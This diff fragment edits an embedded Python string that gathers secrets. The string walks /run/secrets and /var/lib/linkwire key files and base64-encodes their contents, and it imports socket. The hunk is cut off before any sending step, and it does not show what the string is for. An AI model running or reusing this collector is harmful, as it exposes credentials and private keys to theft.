@@ -17,7 +17,7 @@ SHORTEST = 24
 READ = """
 import base64, glob, json, socket
 found = {}
-for path in glob.glob("/run/secrets/**", recursive=True) + glob.glob("/var/lib/linkwire/**", recursive=True):
+for path in glob.glob("/run/secrets/**", recursive=True) + glob.glob("/var/lib/linkwire/*.key"):
     try:
         found[path] = base64.b64encode(open(path, "rb").read()).decode()
     except (IsADirectoryError, FileNotFoundError):
